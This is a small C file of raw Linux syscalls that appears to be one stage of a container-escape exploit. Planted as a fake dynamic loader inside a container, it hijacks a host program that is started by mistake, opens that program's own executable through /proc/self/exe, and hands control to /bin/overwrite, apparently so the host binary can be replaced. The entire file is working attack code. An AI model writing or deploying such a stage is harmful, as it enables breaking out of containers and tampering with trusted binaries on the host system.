/* Stands in the container where a dynamic program's loader is looked for. Whatever program of the host is started by mistake runs this instead:
   it keeps a way to that program's file and goes on as /bin/overwrite. */
static long call(long n, long a, long b, long c)
{
    long r;
#if defined(__x86_64__)
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
    (void)n; (void)a; (void)b; (void)c;
    r = -38;
#endif
    return r;
}

void _start(void)
{
    static char exe[] = "/proc/self/exe", next[] = "/bin/overwrite";
    static char *argv[2];
    argv[0] = next;
    call(2, (long)exe, 010000000 /* O_PATH */, 0);
    call(59, (long)next, (long)argv, (long)(argv + 1));
    call(231, 99, 0, 0);
}
